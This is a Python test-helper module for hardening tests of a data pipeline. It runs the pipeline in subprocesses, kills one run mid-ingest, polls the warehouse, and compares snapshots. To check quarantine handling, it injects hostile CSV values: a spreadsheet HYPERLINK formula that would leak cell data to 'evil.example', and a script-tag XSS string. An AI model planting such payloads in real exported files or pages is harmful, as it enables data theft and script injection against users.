"""Whole-pipeline runs in real subprocesses (``python -m pipelines.run``), shared by the hardening tests.

One small generated input (300 persons, seed 3) with hostile text added, then:
- run A: an uninterrupted run with a secret pseudonym key (not demo mode), while a reader
  polls the warehouse (each poll must get whole data or a "busy" message);
- run B: the same inputs and config into another warehouse, killed with SIGKILL while
  ingest is writing (after the third ingest step has finished), inspected, then rerun.
A and B's rerun must hold the same staging, quarantine, core and marts contents.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import duckdb

from pipelines.resources import WarehouseBusyError, read_warehouse

REPO = Path(__file__).resolve().parents[2]
SECRET_KEY = "hardening-secret-key-7f3a9c2e51b04d8e96aa0c1d2b3e4f50"
COMPARED_SCHEMAS = ("staging", "quarantine", "core", "marts")
KILL_AFTER_INGEST_STEPS = 3
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_HTML = "<script>alert('pwned')</script>"


@dataclass
class Run:
    returncode: int
    output: str
    run_id: str | None


def generate_inputs(folder: Path) -> None:
    subprocess.run([sys.executable, "-m", "data.generate", "--persons", "300", "--seed", "3", "--out", str(folder)],
                   cwd=REPO, check=True, capture_output=True)
    # Hostile text in a coded column (quarantined, so both are shown as examples on the
    # data-quality page and in its CSV): a formula and a script. Eight rows: a rule broken by
    # 1 to 7 rows shows no example (their number would give the count).
    exchanges = folder / "timebank_exchanges.csv"
    first = exchanges.read_text().splitlines()[1].split(",")
    formula = '"' + HOSTILE_FORMULA.replace('"', '""') + '"'
    with open(exchanges, "a") as handle:
        for i in range(0, 8, 2):
            handle.write(f"HOSTILE{i + 1},{first[1]},{first[2]},{first[3]},1,2023-03-0{i + 1},{HOSTILE_HTML},{formula}\n")
            handle.write(f"HOSTILE{i + 2},{first[1]},{first[2]},{first[3]},1,2023-03-0{i + 2},{HOSTILE_HTML},\"{HOSTILE_HTML}\"\n")
        # and one exchange of "lots" of hours: a rule broken once, whose example the page must not list
        handle.write(f"LOTS1,{first[1]},{first[2]},{first[3]},lots,2023-03-09,{first[6]},{first[7]}\n")


def environment(inputs: Path, warehouse: Path, output: Path, dagster_home: Path, key: str | None = SECRET_KEY) -> dict:
    dagster_home.mkdir(parents=True, exist_ok=True)
    (dagster_home / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("OUTCOMES_")}
    env.update(OUTCOMES_INPUT_DIR=str(inputs), OUTCOMES_WAREHOUSE=str(warehouse), OUTCOMES_OUTPUT_DIR=str(output),
               DAGSTER_HOME=str(dagster_home), PYTHONUNBUFFERED="1")
    if key:
        env["OUTCOMES_PSEUDONYM_KEY"] = key
    return env


def run_pipeline(env: dict) -> Run:
    done = subprocess.run([sys.executable, "-m", "pipelines.run"], cwd=REPO, env=env, capture_output=True, text=True,
                          timeout=600, check=False)
    output = done.stdout + done.stderr
    return Run(done.returncode, output, _run_id(output))


@dataclass
class ReaderLog:
    """What a reader polling the warehouse during a run got: whole data, a busy message, or anything else."""

    opened: int = 0
    busy: int = 0
    torn: list[str] = field(default_factory=list)
    other: list[str] = field(default_factory=list)


def run_pipeline_with_reader(env: dict, warehouse: Path) -> tuple[Run, ReaderLog]:
    """Run the pipeline while another process's worth of reader polls the warehouse through ``read_warehouse``."""
    log = ReaderLog()
    finished = threading.Event()

    def poll() -> None:
        while not finished.is_set():
            try:
                with read_warehouse(warehouse, wait_seconds=0.5) as con:
                    log.opened += 1
                    log.torn += torn_tables(con)
            except WarehouseBusyError:
                log.busy += 1
            except duckdb.IOException as err:
                if "does not exist" not in str(err):  # before the run creates the file
                    log.other.append(str(err))
            except Exception as err:  # noqa: BLE001 - anything but data or "busy" is the failure we look for
                log.other.append(f"{type(err).__name__}: {err}")
            time.sleep(0.05)

    reader = threading.Thread(target=poll, daemon=True)
    reader.start()
    try:
        run = run_pipeline(env)
    finally:
        finished.set()
        reader.join(timeout=30)
    return run, log


def torn_tables(con: duckdb.DuckDBPyConnection) -> list[str]:
    """Staged sources whose staging + quarantine rows disagree with the file log of the run that wrote them."""
    torn = []
    for _, table in tables(con, ("staging",)):
        staged, quarantined, read = con.execute(
            f"SELECT (SELECT count(*) FROM staging.{table}), (SELECT count(*) FROM quarantine.{table}), "
            f"(SELECT sum(rows_read) FROM meta.input_files WHERE source = $1 AND run_id = (SELECT any_value(run_id) FROM staging.{table}))",
            [table],
        ).fetchone()
        if staged and staged + quarantined != read:
            torn.append(f"{table}: {staged} + {quarantined} != {read}")
    return torn


def run_and_kill(env: dict, after_steps: int = KILL_AFTER_INGEST_STEPS) -> Run:
    """Start a run and SIGKILL it as soon as ``after_steps`` ingest steps have succeeded (the next one is writing)."""
    proc = subprocess.Popen([sys.executable, "-m", "pipelines.run"], cwd=REPO, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    lines: list[str] = []
    killed = threading.Event()

    def watch() -> None:
        # The terminal shows progress only; the step events are in the run's log file, named first.
        for line in proc.stdout:
            lines.append(line)
            found = re.search(r"full log: (\S+)", line)
            if found:
                break
        else:
            return
        log = Path(found.group(1))
        while proc.poll() is None:
            text = log.read_text() if log.exists() else ""
            succeeded = re.findall(r" - (staging__[a-z_]+) - STEP_SUCCESS", text)  # ingest steps (their checks run inside)
            if len(succeeded) >= after_steps:
                proc.send_signal(signal.SIGKILL)
                killed.set()
                break
            time.sleep(0.02)
        lines.extend(proc.stdout)

    reader = threading.Thread(target=watch, daemon=True)
    reader.start()
    proc.wait(timeout=600)
    reader.join(timeout=10)
    assert killed.is_set(), "the run ended before it could be killed mid-ingest:\n" + "".join(lines[-20:])
    output = "".join(lines)
    return Run(proc.returncode, output, _run_id(output) or _dagster_run_id(output))


def _run_id(output: str) -> str | None:
    found = re.search(r"^Run ([0-9a-f-]{36}): succeeded", output, re.MULTILINE)
    return found.group(1) if found else None


def _dagster_run_id(output: str) -> str | None:
    found = re.search(r"full log: \S*/([0-9a-f-]{36})\.log", output)
    return found.group(1) if found else None


def tables(con: duckdb.DuckDBPyConnection, schemas=COMPARED_SCHEMAS) -> list[tuple[str, str]]:
    placeholders = ", ".join("?" * len(schemas))
    return con.execute(
        f"SELECT schema_name, table_name FROM duckdb_tables() WHERE schema_name IN ({placeholders}) AND NOT temporary "
        "ORDER BY 1, 2", list(schemas)
    ).fetchall()


def compared_columns(con: duckdb.DuckDBPyConnection, schema: str, table: str) -> list[str]:
    """Every column except run ids and timestamps (when a run happened is not a result)."""
    return [
        name for name, dtype in con.execute(
            "SELECT column_name, data_type FROM duckdb_columns() WHERE schema_name = ? AND table_name = ? ORDER BY column_index",
            [schema, table]).fetchall()
        if name != "run_id" and not dtype.startswith("TIMESTAMP") and not name.endswith(("_at", "_timestamp"))
    ]


def snapshot(warehouse: Path, digits: int | None = None) -> dict[str, list[str]]:
    """Each compared table's rows (as sorted text, so row order does not matter).

    ``digits``: compare floating-point values to that many significant digits (DuckDB's
    parallel aggregates may sum in a different order from run to run, which moves the last
    bit of a double); None compares them bit for bit.
    """
    def cell(value: object) -> object:
        return float(f"{value:.{digits}g}") if digits and isinstance(value, float) else value

    out = {}
    with duckdb.connect(str(warehouse), read_only=True) as con:
        for schema, table in tables(con):
            cols = compared_columns(con, schema, table)
            select = ", ".join(f'"{c}"' for c in cols) or "1"
            rows = con.execute(f"SELECT {select} FROM {schema}.{table}").fetchall()
            out[f"{schema}.{table}"] = sorted(repr(tuple(cell(v) for v in row)) for row in rows)
    return out
